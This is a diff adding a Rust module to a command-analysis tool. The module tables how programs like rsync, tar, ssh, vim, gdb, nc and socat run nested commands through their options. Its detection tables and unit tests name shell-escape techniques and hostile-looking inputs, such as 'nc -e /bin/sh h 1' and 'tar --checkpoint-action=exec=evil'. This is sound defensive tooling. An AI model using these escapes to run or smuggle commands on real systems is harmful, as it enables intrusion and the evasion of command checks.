@@ -1,0 +1,423 @@
+//! The program model: what ana knows about programs that run other code through their own
+//! options, scripts, configuration or environment, in one table per family, read by one shared
+//! option reader.
+//!
+//! A family answers with [`Code`]: a shell command line it will run (`rsync -e CMD`,
+//! `ssh -o ProxyCommand=CMD`, `tar --checkpoint-action=exec=CMD`, sqlite's `.shell CMD`), which
+//! the shell walker then follows as a script of its own; or a fact for code ana cannot see into
+//! (vim's `-c`, gdb's `-ex`, awk's `system()`, sed's `e` command). Nothing here does I/O.
+
+pub mod git;
+pub mod interpreters;
+mod text;
+
+use super::schema::fact;
+use super::shell::Word;
+
+/// Something a program runs besides itself.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Code {
+    /// A shell command line.
+    Shell(Word),
+    /// Code ana cannot follow: bits of [`fact`].
+    Fact(u32),
+}
+
+/// How a family names the options that matter to it.
+struct Family {
+    programs: &'static [&'static str],
+    /// Options whose value is a shell command line (`-e`, `--rsh`, `--use-compress-program`).
+    shell_options: &'static [&'static str],
+    /// Options that run code ana cannot see (`-c` for vim, `-ex` for gdb), with or without a value.
+    code_options: &'static [&'static str],
+    /// Of `code_options`, those that take the next word as their value.
+    code_values: &'static [&'static str],
+    /// Other options that take a value, so that it is not read as an option or an argument.
+    value_options: &'static [&'static str],
+}
+
+const FAMILIES: &[Family] = &[
+    Family {
+        programs: &["rsync"],
+        shell_options: &["-e", "--rsh", "--rsync-path"],
+        code_options: &[],
+        code_values: &[],
+        value_options: &["--exclude", "--include", "--filter", "-f", "--files-from", "--exclude-from", "--include-from", "--log-file", "--password-file", "--chmod", "--chown", "--timeout", "--port", "--bwlimit", "--backup-dir", "--suffix", "--partial-dir", "--temp-dir", "-T", "--compare-dest", "--copy-dest", "--link-dest", "--out-format", "--info", "--debug", "--max-size", "--min-size", "--iconv"],
+    },
+    Family {
+        programs: &["tar", "gtar", "bsdtar"],
+        shell_options: &["--use-compress-program", "-I", "--to-command", "--info-script", "--new-volume-script", "-F", "--rsh-command", "--rmt-command"],
+        code_options: &[],
+        code_values: &[],
+        value_options: &["-f", "--file", "-C", "--directory", "-T", "--files-from", "-X", "--exclude-from", "--exclude", "-b", "--blocking-factor", "-H", "--format", "-K", "--starting-file", "-N", "--newer", "-V", "--label", "--owner", "--group", "--mode", "--transform", "--xform", "--strip-components", "-L", "--tape-length"],
+    },
+    Family {
+        programs: &["zip"],
+        shell_options: &["-TT", "--unzip-command"],
+        code_options: &[],
+        code_values: &[],
+        value_options: &["-b", "-n", "-x", "-i", "-t", "-tt", "-P", "--password", "-Z", "-O"],
+    },
+    Family {
+        programs: &["vim", "vi", "nvim", "ex", "view", "gvim", "vimdiff", "nvim-qt", "rvim", "evim"],
+        shell_options: &[],
+        code_options: &["-c", "--cmd", "-S", "-s", "-u", "--headless", "-es", "-Es", "-e", "-E", "-l"],
+        code_values: &["-c", "--cmd", "-s", "-u"],
+        value_options: &["-i", "-t", "-q", "-r", "-T", "-w", "-W", "--listen", "--servername"],
+    },
+    Family {
+        programs: &["emacs", "emacs-nox", "emacsclient", "xemacs"],
+        shell_options: &[],
+        code_options: &["--eval", "-eval", "-e", "-l", "--load", "-batch", "--batch", "--script", "-x", "-f", "--funcall", "-L", "--directory", "-u", "--user"],
+        code_values: &["--eval", "-eval", "-e", "-l", "--load", "--script", "-f", "--funcall", "-L", "--directory", "-u", "--user"],
+        value_options: &["-s", "--socket-name", "-a", "--alternate-editor"],
+    },
+    Family {
+        programs: &["gdb", "gdb-multiarch", "cgdb", "lldb", "rust-gdb", "rust-lldb"],
+        shell_options: &[],
+        code_options: &["-ex", "-iex", "-x", "-ix", "--command", "--eval-command", "--init-command", "--init-eval-command", "-batch", "--batch", "-o", "--one-line", "-s", "--source", "-O", "--one-line-before-file", "-k", "-K", "-p", "--pid", "--attach-pid", "--attach-name"],
+        code_values: &["-ex", "-iex", "-x", "-ix", "--command", "--eval-command", "--init-command", "--init-eval-command", "-o", "--one-line", "-s", "--source", "-O", "--one-line-before-file", "-k", "-K", "-p", "--pid", "--attach-pid", "--attach-name"],
+        value_options: &["--args", "-cd", "--directory", "-D", "--data-directory"],
+    },
+    Family {
+        programs: &["man"],
+        shell_options: &["-P", "--pager", "-H", "--html"],
+        code_options: &[],
+        code_values: &[],
+        value_options: &["-M", "--manpath", "-S", "-s", "--sections", "-L", "--locale", "-m", "--systems", "-E", "--encoding", "-C", "--config-file"],
+    },
+    Family {
+        programs: &["scp", "sftp"],
+        shell_options: &["-S", "-D"],
+        code_options: &[],
+        code_values: &[],
+        value_options: &["-P", "-i", "-l", "-o", "-c", "-J", "-X", "-B", "-b", "-R", "-s", "-F"],
+    },
+    Family {
+        programs: &["expect"],
+        shell_options: &[],
+        code_options: &["-c", "-f"],
+        code_values: &["-c", "-f"],
+        value_options: &[],
+    },
+    Family {
+        programs: &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
+        shell_options: &["-c", "--sh-exec"],
+        code_options: &["--lua-exec"],
+        code_values: &["--lua-exec"],
+        value_options: &["-p", "-s", "-w", "-i", "-q", "-x", "-X", "-O", "-T", "-V", "-m", "--source", "--source-port", "--wait", "--proxy", "--proxy-type", "--proxy-auth", "--allow", "--allowfile", "--deny", "--denyfile", "-g", "-G", "-o", "--output", "--max-conns"],
+    },
+];
+
+/// The values of `names` in `argv` as programs read options: `--name=value`, `--name value`,
+/// `-n value`, `-nvalue` and `-abn value` (a cluster ending in the option), up to `--`.
+/// `with_value` lists every other option that takes a value, so that its value is skipped.
+pub fn option_values(argv: &[Word], names: &[&str], with_value: &[&str]) -> Vec<Word> {
+    let mut out = Vec::new();
+    let mut i = 1;
+    while i < argv.len() {
+        let w = &argv[i];
+        let a = w.text.as_str();
+        if a == "--" {
+            break;
+        }
+        if !a.starts_with('-') || a == "-" {
+            i += 1;
+            continue;
+        }
+        let value_at = |i: usize| argv.get(i).cloned();
+        if let Some((name, value)) = a.split_once('=').filter(|_| a.starts_with("--")) {
+            if names.contains(&name) {
+                out.push(Word { text: value.to_owned(), ..w.clone() });
+            }
+            i += 1;
+            continue;
+        }
+        if names.contains(&a) {
+            out.extend(value_at(i + 1));
+            i += 2;
+            continue;
+        }
+        if with_value.contains(&a) {
+            i += 2;
+            continue;
+        }
+        if !a.starts_with("--") && a.len() > 2 && a.is_char_boundary(2) && names.contains(&&a[..2]) && !a[1..].bytes().all(|b| b.is_ascii_alphanumeric()) {
+            // `-oProxyCommand=X`: the value attached.
+            out.push(Word { text: a[2..].to_owned(), ..w.clone() });
+            i += 1;
+            continue;
+        }
+        if !a.starts_with("--") && a.len() > 2 && a[1..].bytes().all(|b| b.is_ascii_alphanumeric()) {
+            // A cluster: the first letter that takes a value takes the rest, or the next word.
+            let b = a.as_bytes();
+            let mut skipped = false;
+            for k in 1..b.len() {
+                let short = [b'-', b[k]];
+                let short = std::str::from_utf8(&short).unwrap_or("");
+                if names.contains(&short) {
+                    if k + 1 < b.len() {
+                        out.push(Word { text: a[k + 1..].to_owned(), ..w.clone() });
+                    } else {
+                        out.extend(value_at(i + 1));
+                        skipped = true;
+                    }
+                    break;
+                }
+                if with_value.contains(&short) {
+                    skipped = k + 1 == b.len();
+                    break;
+                }
+            }
+            i += if skipped { 2 } else { 1 };
+            continue;
+        }
+        i += 1;
+    }
+    out
+}
+
+/// Whether any of `names` is given (as a word, `--name=…`, or inside a short cluster).
+fn has_option(argv: &[Word], names: &[&str]) -> bool {
+    argv.iter().skip(1).take_while(|w| w.text != "--").any(|w| {
+        let a = w.text.as_str();
+        names.contains(&a) || a.split_once('=').is_some_and(|(n, _)| a.starts_with("--") && names.contains(&n))
+    })
+}
+
+/// The positional arguments of `argv` (options and the values of `with_value` skipped).
+fn positionals<'w>(argv: &'w [Word], with_value: &[&str]) -> Vec<&'w Word> {
+    let mut out = Vec::new();
+    let mut i = 1;
+    let mut done = false;
+    while i < argv.len() {
+        let a = argv[i].text.as_str();
+        if done || !a.starts_with('-') || a == "-" {
+            out.push(&argv[i]);
+        } else if a == "--" {
+            done = true;
+        } else if with_value.contains(&a) {
+            i += 1;
+        }
+        i += 1;
+    }
+    out
+}
+
+/// What `program` (its base name) runs through its arguments and stdin text.
+pub fn nested(program: &str, argv: &[Word], stdin_text: Option<&str>) -> Vec<Code> {
+    let mut out = Vec::new();
+    if let Some(f) = FAMILIES.iter().find(|f| f.programs.contains(&program)) {
+        let mut with_value: Vec<&str> = f.value_options.to_vec();
+        with_value.extend(f.code_values);
+        for w in option_values(argv, f.shell_options, &with_value) {
+            let text = w.text.strip_prefix("exec=").unwrap_or(&w.text).to_owned();
+            out.push(Code::Shell(Word { text, ..w }));
+        }
+        let mut all: Vec<&str> = with_value.clone();
+        all.extend(f.shell_options);
+        if has_option(argv, f.code_options) {
+            out.push(Code::Fact(fact::RUNS_CODE));
+        }
+        if f.programs[0] == "vim" && argv.iter().skip(1).any(|w| w.text.starts_with('+') && w.text.len() > 1 && !w.text[1..].bytes().all(|b| b.is_ascii_digit())) {
+            // `vim +cmd`: an Ex command (`+N` only moves to a line).
+            out.push(Code::Fact(fact::RUNS_CODE));
+        }
+        if f.programs[0] == "tar" {
+            for w in option_values(argv, &["--checkpoint-action"], &all) {
+                let action = w.text.as_str();
+                if let Some(cmd) = action.strip_prefix("exec=").or_else(|| action.strip_prefix("exec:")) {
+                    out.push(Code::Shell(Word { text: cmd.to_owned(), ..w.clone() }));
+                } else if action.starts_with("exec") || w.dynamic {
+                    out.push(Code::Fact(fact::RUNS_CODE));
+                }
+            }
+        }
+        if f.programs[0] == "nc" && has_option(argv, &["-e", "--exec"]) {
+            // `nc -e PROGRAM`: a program wired to the network (a bind or reverse shell).
+            for w in option_values(argv, &["-e", "--exec"], &all) {
+                out.push(Code::Shell(w));
+            }
+        }
+    }
+    match program {
+        "ssh" | "autossh" | "scp" | "sftp" => {
+            const SSH_VALUES: &[&str] = &["-p", "-P", "-i", "-l", "-J", "-L", "-R", "-D", "-b", "-c", "-E", "-e", "-m", "-O", "-Q", "-S", "-W", "-w", "-B", "-I", "-X", "-s"];
+            for w in option_values(argv, &["-o"], &[SSH_VALUES, &["-F"]].concat()) {
+                out.extend(ssh_option(&w));
+            }
+            // `-F FILE`: a configuration file can run commands (ProxyCommand, LocalCommand, Match exec).
+            let configs = option_values(argv, &["-F"], &[SSH_VALUES, &["-o"]].concat());
+            if configs.iter().any(|w| !matches!(w.text.as_str(), "/dev/null" | "none")) {
+                out.push(Code::Fact(fact::RUNS_CODE));
+            }
+        }
+        "sqlite3" | "sqlite" | "duckdb" | "litecli" | "spatialite" => {
+            let mut texts: Vec<Word> = option_values(argv, &["-cmd", "--cmd"], &["-separator", "-newline", "-nullvalue", "-init"]);
+            texts.extend(positionals(argv, &["-cmd", "-separator", "-newline", "-nullvalue", "-init"]).into_iter().skip(1).cloned());
+            texts.extend(stdin_text.map(Word::lit));
+            for t in &texts {
+                out.extend(text::sqlite(t));
+            }
+            if has_option(argv, &["-init"]) {
+                out.push(Code::Fact(fact::RUNS_CODE));
+            }
+        }
+        "psql" | "pgcli" => {
+            let mut texts = option_values(argv, &["-c", "--command"], &["-d", "--dbname", "-h", "--host", "-p", "--port", "-U", "--username", "-f", "--file", "-v", "--set", "--variable", "-o", "--output", "-L", "--log-file", "-P", "--pset", "-F", "-R", "-T"]);
+            texts.extend(stdin_text.map(Word::lit));
+            for t in &texts {
+                out.extend(text::psql(t));
+            }
+            if option_values(argv, &["-o", "--output", "-L", "--log-file"], &[]).iter().any(|w| w.text.starts_with('|')) {
+                out.push(Code::Fact(fact::RUNS_CODE));
+            }
+        }
+        "mysql" | "mariadb" | "mycli" => {
+            let mut texts = option_values(argv, &["-e", "--execute"], &["-u", "--user", "-h", "--host", "-P", "--port", "-D", "--database", "-S", "--socket"]);
+            texts.extend(stdin_text.map(Word::lit));
+            for t in &texts {
+                out.extend(text::mysql(t));
+            }
+        }
+        "sed" | "gsed" => {
+            let with_value = ["-l", "--line-length", "-s"];
+            let mut scripts = option_values(argv, &["-e", "--expression"], &with_value);
+            let files = option_values(argv, &["-f", "--file"], &with_value);
+            if scripts.is_empty() && files.is_empty() {
+                scripts.extend(positionals(argv, &["-e", "--expression", "-f", "--file", "-l", "--line-length"]).first().map(|w| (*w).clone()));
+            }
+            if scripts.iter().any(|s| s.dynamic || text::sed_runs_command(&s.text)) {
+                out.push(Code::Fact(fact::RUNS_CODE));
+            }
+        }
+        "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => {
+            let with_value = ["-v", "-F", "--assign", "--field-separator", "-i", "--include", "-l", "--load"];
+            let mut programs = option_values(argv, &["-e", "--source"], &with_value);
+            let files = option_values(argv, &["-f", "--file"], &with_value);
+            if programs.is_empty() && files.is_empty() {
+                let mut names = vec!["-e", "--source", "-f", "--file"];
+                names.extend(with_value);
+                programs.extend(positionals(argv, &names).first().map(|w| (*w).clone()));
+            }
+            if programs.iter().any(|p| p.dynamic || text::awk_runs_command(&p.text)) || has_option(argv, &["-l", "--load", "-i", "--include"]) {
+                out.push(Code::Fact(fact::RUNS_CODE));
+            }
+        }
+        "less" | "more" | "most" => {
+            // `less '+!CMD'`: a command typed at the prompt before the file is shown.
+            for w in argv.iter().skip(1) {
+                if let Some(rest) = w.text.strip_prefix('+').or_else(|| w.text.strip_prefix("--cmd=")) {
+                    if let Some(at) = rest.find('!') {
+                        out.push(Code::Shell(Word { text: rest[at + 1..].to_owned(), ..w.clone() }));
+                    }
+                }
+            }
+        }
+        "make" | "gmake" | "bmake" => {
+            let overrides = argv.iter().skip(1).any(|w| w.text.starts_with("SHELL=") || w.text.starts_with(".SHELLFLAGS=") || w.text.starts_with("MAKESHELL="));
+            if overrides || has_option(argv, &["--eval", "-E"]) {
+                out.push(Code::Fact(fact::RUNS_CODE));
+            }
+        }
+        "socat" => {
+            for w in argv.iter().skip(1).filter(|w| !w.text.starts_with('-')) {
+                let lower = w.text.to_ascii_lowercase();
+                if let Some(rest) = lower.strip_prefix("exec:").or_else(|| lower.strip_prefix("system:")) {
+                    let cmd = &w.text[w.text.len() - rest.len()..];
+                    let cmd = cmd.split(',').next().unwrap_or(cmd);
+                    out.push(Code::Shell(Word { text: cmd.to_owned(), ..w.clone() }));
+                }
+            }
+        }
+        "at" | "batch" => {
+            if let Some(t) = stdin_text {
+                out.push(Code::Shell(Word::lit(t)));
+            }
+        }
+        "git" => out.extend(git::nested(argv)),
+        _ => {}
+    }
+    out
+}
+
+/// One `ssh -o` option: `ProxyCommand`, `LocalCommand`, `KnownHostsCommand` run a command line.
+fn ssh_option(w: &Word) -> Option<Code> {
+    let t = w.text.trim_start();
+    let split = t.find(['=', ' ', '\t'])?;
+    let key = t[..split].to_ascii_lowercase();
+    let value = t[split + 1..].trim_start_matches(['=', ' ', '\t']);
+    match key.as_str() {
+        "proxycommand" | "localcommand" | "knownhostscommand" | "remotecommand" => {
+            if value.eq_ignore_ascii_case("none") {
+                None
+            } else {
+                Some(Code::Shell(Word { text: value.to_owned(), ..w.clone() }))
+            }
+        }
+        "include" | "pkcs11provider" | "securitykeyprovider" => Some(Code::Fact(fact::RUNS_CODE)),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(s: &str) -> Vec<Word> {
+        s.split(' ').map(Word::lit).collect()
+    }
+
+    fn shell_of(s: &str) -> Vec<String> {
+        let argv = words(s);
+        nested(&argv[0].text.clone(), &argv, None).into_iter().filter_map(|c| if let Code::Shell(w) = c { Some(w.text) } else { None }).collect()
+    }
+
+    fn runs_code(s: &str) -> bool {
+        let argv = words(s);
+        nested(&argv[0].text.clone(), &argv, None).iter().any(|c| matches!(c, Code::Fact(f) if f & fact::RUNS_CODE != 0))
+    }
+
+    #[test]
+    fn option_reader_spellings() {
+        let v = |s: &str| option_values(&words(s), &["-e", "--rsh"], &["-f"]).into_iter().map(|w| w.text).collect::<Vec<_>>();
+        assert_eq!(v("rsync -e X a b"), ["X"]);
+        assert_eq!(v("rsync -avze X a b"), ["X"]);
+        assert_eq!(v("rsync -eX a b"), ["X"]);
+        assert_eq!(v("rsync --rsh=X a b"), ["X"]);
+        assert_eq!(v("rsync --rsh X a b"), ["X"]);
+        assert_eq!(v("rsync -f -e a b"), Vec::<String>::new());
+        assert_eq!(v("rsync -- -e X"), Vec::<String>::new());
+    }
+
+    #[test]
+    fn commands_run_through_options() {
+        assert_eq!(shell_of("rsync -e sh-evil a b"), ["sh-evil"]);
+        assert_eq!(shell_of("rsync --rsync-path=evil a b"), ["evil"]);
+        assert_eq!(shell_of("tar --checkpoint=1 --checkpoint-action=exec=evil -cf a.tar x"), ["evil"]);
+        assert_eq!(shell_of("tar --use-compress-program=evil -cf a.tar x"), ["evil"]);
+        assert_eq!(shell_of("tar -I evil -cf a.tar x"), ["evil"]);
+        assert_eq!(shell_of("zip a.zip x -T -TT evil"), ["evil"]);
+        assert_eq!(shell_of("ssh -o ProxyCommand=evil host"), ["evil"]);
+        assert_eq!(shell_of("ssh -oProxyCommand=evil host"), ["evil"]);
+        assert_eq!(shell_of("scp -S evil a host:b"), ["evil"]);
+        assert_eq!(shell_of("man -P evil ls"), ["evil"]);
+        assert_eq!(shell_of("less +!evil file"), ["evil"]);
+        assert_eq!(shell_of("socat TCP:h:1 EXEC:evil"), ["evil"]);
+        assert_eq!(shell_of("nc -e /bin/sh h 1"), ["/bin/sh"]);
+        assert_eq!(shell_of("ncat --sh-exec evil h 1"), ["evil"]);
+        assert!(shell_of("rsync -av src/ dst/").is_empty());
+        assert!(shell_of("tar -czf a.tgz src").is_empty());
+        assert!(shell_of("ssh -o StrictHostKeyChecking=no host ls").is_empty());
+    }
+
+    #[test]
+    fn code_ana_cannot_follow() {
+        for s in ["vim -c :!evil x", "vim +:!evil x", "nvim --headless -c q", "emacs --batch --eval x", "gdb -ex run ./a", "gdb -batch -x s ./a", "make SHELL=/tmp/x", "ssh -F ./cfg host", "sed s/x/y/e f", "sed -e 1e\\ evil f", "awk BEGIN{system(\"x\")}"] {
+            assert!(runs_code(s), "{s}");
+        }
+        for s in ["vim +12 x", "vim x", "make -j4 test", "ssh -F /dev/null host", "sed -i s/x/y/g f", "awk {print$1} f", "gdb --version"] {
+            assert!(!runs_code(s), "{s}");
+        }
+    }
+}
